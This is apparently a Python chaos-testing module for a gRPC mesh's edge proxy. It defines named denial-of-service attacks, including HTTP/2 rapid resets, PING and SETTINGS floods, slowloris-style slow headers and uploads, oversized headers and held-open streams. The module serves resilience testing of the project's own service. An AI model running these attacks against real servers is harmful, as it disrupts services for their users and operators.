"""Hostile clients: each attack is sent at a bounded rate by a process of its own, `python -m graphmesh_chaos.attacks`.

They attack the edge as one tenant; `watcher.py` calls it as another one.
"""

import asyncio
import itertools
import struct
import sys
from base64 import b64encode
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from contextlib import AsyncExitStack, asynccontextmanager, suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from google.protobuf.message import Message
from graphmesh.orchestrator.v1 import (
    CreateRunRequest,
    GetRunRequest,
    ListRunsRequest,
    RunService,
    StreamRunRequest,
    WaitRunRequest,
)
from graphmesh_chassis import metadata
from graphmesh_contracts import Method
from graphmesh_mesh.service import Listener

from graphmesh_chaos.http2_connection import HEADERS, PING, SETTINGS, Http2Connection

TENANT = "hostile"
CONNECTIONS = 8
STREAMS_A_CONNECTION = 120
"""Below Envoy's limit of 128; further ones would be refused."""
IDLE_STREAMS = 4_200
OPEN_REQUESTS = 5_000
LOOP = "loop"
"""The name of a graph of many supersteps."""
LOOP_FILE = Path(__file__).parent / "graphs" / "loop.py"
UNKNOWN_RUN = GetRunRequest(run_id="run_unknown")


@dataclass(frozen=True)
class Target:
    """The mesh that is attacked."""

    edge: Listener
    run_id: str
    """A run of the hostile tenant that does not end meanwhile."""
    graph: str

    @asynccontextmanager
    async def connections(self, count: int) -> AsyncIterator[list[Http2Connection]]:
        async with AsyncExitStack() as stack:
            yield [await stack.enter_async_context(Http2Connection.open(self.edge)) for _ in range(count)]


Attack = Callable[[Target], Awaitable[None]]
"""Attacks until it is cancelled."""
Send = Callable[[Target, Http2Connection], None]
"""Sends one hostile request."""


def request_headers(rpc: Method[Any, Any], **changes: str) -> dict[str, str]:
    """The headers of a gRPC call, with changes of some; an empty one is left out."""
    headers = {
        ":method": "POST",
        ":scheme": "http",
        ":path": rpc.path,
        ":authority": "edge",
        "content-type": "application/grpc",
        "te": "trailers",
        metadata.TENANT: TENANT,
        **{name.replace("_", "-"): value for name, value in changes.items()},
    }
    return {name: value for name, value in headers.items() if value}


def framed(message: Message, flag: int = 0) -> bytes:
    """A message with the prefix of gRPC: whether it is compressed, and its length."""
    body = message.SerializeToString()
    return struct.pack(">BI", flag, len(body)) + body


async def ticks(rate: float) -> AsyncIterator[int]:
    """Yield at a rate, in calls a second; late ones are not made up for."""
    for number in itertools.count():
        yield number
        await asyncio.sleep(1 / rate)


def repeated(send: Send, rate: float) -> Attack:
    """An attack with one request at a rate, on some connections; one that the server has closed is opened again."""

    async def on_a_connection(target: Target) -> None:
        while True:
            with suppress(OSError):
                async with Http2Connection.open(target.edge) as connection:
                    async for _ in ticks(rate / CONNECTIONS):
                        if connection.is_closed:
                            break
                        send(target, connection)

    async def attack(target: Target) -> None:
        await asyncio.gather(*(on_a_connection(target) for _ in range(CONNECTIONS)))

    return attack


def held(send: Send, count: int) -> Attack:
    """An attack with many requests that begin at once and stay open; closed connections are opened again."""

    async def on_a_connection(target: Target) -> None:
        while True:
            with suppress(OSError):
                async with Http2Connection.open(target.edge) as connection:
                    for _ in range(STREAMS_A_CONNECTION):
                        send(target, connection)
                    await connection.drain()
                    while not connection.is_closed:
                        await asyncio.sleep(0.5)

    async def attack(target: Target) -> None:
        await asyncio.gather(*(on_a_connection(target) for _ in range(count // STREAMS_A_CONNECTION)))

    return attack


def call(rpc: Method[Any, Any], request: Message, **headers: str) -> Send:
    """One call with other headers."""
    sent, body = request_headers(rpc, **headers), framed(request)
    return lambda target, connection: _send(connection, sent, body)


def _send(connection: Http2Connection, headers: dict[str, str], body: bytes, is_complete: bool = True) -> None:
    connection.send(headers, body, is_complete)


def in_turn(*sends: Send) -> Send:
    """One kind of request after the other."""
    kinds: Iterator[Send] = itertools.cycle(sends)
    return lambda target, connection: next(kinds)(target, connection)


def cancelled(target: Target, connection: Http2Connection) -> None:
    connection.reset(connection.send(request_headers(RunService.GetRun), framed(UNKNOWN_RUN)))


def half_open(target: Target, connection: Http2Connection) -> None:
    """A request whose message is never complete."""
    _send(connection, request_headers(RunService.GetRun), framed(UNKNOWN_RUN)[:5], is_complete=False)


def truncated(target: Target, connection: Http2Connection) -> None:
    """A request that ends within its message."""
    _send(connection, request_headers(RunService.GetRun), framed(UNKNOWN_RUN)[:-1])


def body_of(rpc: Method[Any, Any], body: bytes, **headers: str) -> Send:
    sent = request_headers(rpc, **headers)
    return lambda target, connection: _send(connection, sent, body)


def idle_stream(target: Target, connection: Http2Connection) -> None:
    """A stream of the events of a run that has none."""
    request = StreamRunRequest(run_id=target.run_id)
    _send(connection, request_headers(RunService.StreamRun), framed(request))


def idle_wait(target: Target, connection: Http2Connection) -> None:
    request = WaitRunRequest(run_id=target.run_id)
    _send(connection, request_headers(RunService.WaitRun), framed(request))


def large_run(target: Target, connection: Http2Connection) -> None:
    """A valid request with a megabyte of input."""
    _send(connection, request_headers(RunService.CreateRun), framed(create_run(target, "x" * 1_000_000)))


def new_run(target: Target, connection: Http2Connection) -> None:
    _send(connection, request_headers(RunService.CreateRun), framed(create_run(target, "x")))


def long_run(target: Target, connection: Http2Connection) -> None:
    """A run of many supersteps."""
    _send(connection, request_headers(RunService.CreateRun), framed(create_run(target, "x", LOOP)))


def create_run(target: Target, text: str, graph: str = "") -> CreateRunRequest:
    request = CreateRunRequest(graph=graph or target.graph)
    request.input.update({"text": text})
    return request


def rapid_reset(target: Target, connection: Http2Connection) -> None:
    for _ in range(50):
        cancelled(target, connection)


def pings(target: Target, connection: Http2Connection) -> None:
    for _ in range(50):
        connection.frame(PING, 0, 0, bytes(8))


def settings(target: Target, connection: Http2Connection) -> None:
    for _ in range(50):
        connection.frame(SETTINGS, 0, 0, b"")


def empty_frames(target: Target, connection: Http2Connection) -> None:
    stream = connection.send(request_headers(RunService.GetRun), b"", is_complete=False)
    for _ in range(50):
        connection.send_data(stream, b"", is_complete=False)


def unfinished_headers(target: Target, connection: Http2Connection) -> None:
    """A header block of which the end never comes."""
    connection.frame(HEADERS, 0, 1, b"")


async def slow_uploads(target: Target) -> None:
    """Messages of one byte a second."""
    message = bytes((0,)) + (16_000_000).to_bytes(4, "big")
    async with target.connections(CONNECTIONS) as connections:
        streams = [
            (connection, connection.send(request_headers(RunService.CreateRun), message, is_complete=False))
            for connection in connections
            for _ in range(STREAMS_A_CONNECTION)
        ]
        async for _ in ticks(1):
            for connection, stream in streams:
                connection.send_data(stream, b"x", is_complete=False)


async def large_uploads(target: Target) -> None:
    """Messages that stop before their end, as large as the flow control admits."""
    message = bytes((0,)) + (16_000_000).to_bytes(4, "big") + bytes(16_000)

    async def upload() -> None:
        async for _ in ticks(1):
            with suppress(OSError):
                async with Http2Connection.open(target.edge) as connection:
                    stream = connection.send(request_headers(RunService.CreateRun), message, is_complete=False)
                    for _ in range(900):
                        await connection.wait_for_window(stream, 16_000)
                        connection.send_data(stream, bytes(16_000), is_complete=False)
                    while not connection.is_closed:
                        await asyncio.sleep(0.5)

    await asyncio.gather(*(upload() for _ in range(128)))


async def slow_headers(target: Target) -> None:
    """Connections of HTTP/1.1 that send one byte a second of their headers."""

    async def connect() -> None:
        while True:
            with suppress(OSError):
                _, writer = await asyncio.open_connection(target.edge.address, target.edge.port)
                try:
                    writer.write(b"GET /v1/runs HTTP/1.1\r\nx: ")
                    async for _ in ticks(1):
                        writer.write(b"x")
                        await writer.drain()
                finally:
                    writer.close()

    await asyncio.gather(*(connect() for _ in range(1_000)))


GET_RUN = RunService.GetRun
INVALID_BASE64 = {"content_type": "application/grpc-web-text", "x_grpc_web": "1"}
ATTACKS: dict[str, Attack] = {
    "deadlines-of-1-ms": repeated(call(GET_RUN, UNKNOWN_RUN, grpc_timeout="1m"), 170),
    "short-deadlines": repeated(
        in_turn(*(call(GET_RUN, UNKNOWN_RUN, grpc_timeout=f"{ms}m") for ms in (2, 3, 5, 8, 10))), 170
    ),
    "cancellations": repeated(cancelled, 200),
    "content-types": repeated(
        in_turn(
            call(GET_RUN, UNKNOWN_RUN, content_type="text/plain"),
            body_of(GET_RUN, b"{}", content_type="application/json"),
            call(GET_RUN, UNKNOWN_RUN, content_type=""),
            call(GET_RUN, UNKNOWN_RUN, te=""),
        ),
        200,
    ),
    "encodings": repeated(
        in_turn(
            body_of(GET_RUN, b"!!!!", **INVALID_BASE64),
            body_of(GET_RUN, b64encode(b"\xff" * 30), **INVALID_BASE64),
            body_of(GET_RUN, b"\xff" * 30, content_type="application/grpc-web+proto"),
            body_of(GET_RUN, framed(UNKNOWN_RUN, flag=1), grpc_encoding="gzip"),
            body_of(GET_RUN, framed(UNKNOWN_RUN, flag=1), grpc_encoding="zstd"),
            body_of(GET_RUN, b"\xff" * 30),
        ),
        200,
    ),
    "truncated-messages": repeated(truncated, 200),
    "half-open-requests": held(half_open, OPEN_REQUESTS),
    "slow-uploads": slow_uploads,
    "large-uploads": large_uploads,
    "slow-headers": slow_headers,
    "large-headers": repeated(
        in_turn(
            *(
                call(GET_RUN, UNKNOWN_RUN, **{f"x-{i}": "x" * size for i in range(count)})
                for size, count in ((16_000, 1), (15_000, 2), (40_000, 1), (1, 200))
            )
        ),
        50,
    ),
    "unfinished-headers": repeated(unfinished_headers, 50),
    "calls-at-once": held(call(GET_RUN, UNKNOWN_RUN), OPEN_REQUESTS),
    "rapid-resets": repeated(rapid_reset, 40),
    "pings": repeated(pings, 40),
    "settings": repeated(settings, 40),
    "empty-frames": repeated(empty_frames, 40),
    "idle-streams": held(idle_stream, IDLE_STREAMS),
    "idle-waits": held(idle_wait, IDLE_STREAMS),
    "large-requests": repeated(large_run, 10),
    "flood-of-reads": repeated(in_turn(call(GET_RUN, UNKNOWN_RUN), call(RunService.ListRuns, ListRunsRequest())), 500),
    "flood-of-runs": repeated(new_run, 100),
    "flood-of-long-runs": repeated(long_run, 100),
}
"""By name. Each is within what one client can send without much effort."""


def main() -> None:
    """Attack until the process is killed: HOST:PORT, the name of the attack, a run, and the name of a graph."""
    address, name, run_id, graph = sys.argv[1:]
    host, _, port = address.rpartition(":")
    sys.stdout.write("attacking\n")
    sys.stdout.flush()
    asyncio.run(_run(ATTACKS[name], Target(Listener(address=host, port=int(port)), run_id, graph)))


async def _run(attack: Attack, target: Target) -> None:
    await attack(target)


if __name__ == "__main__":
    main()
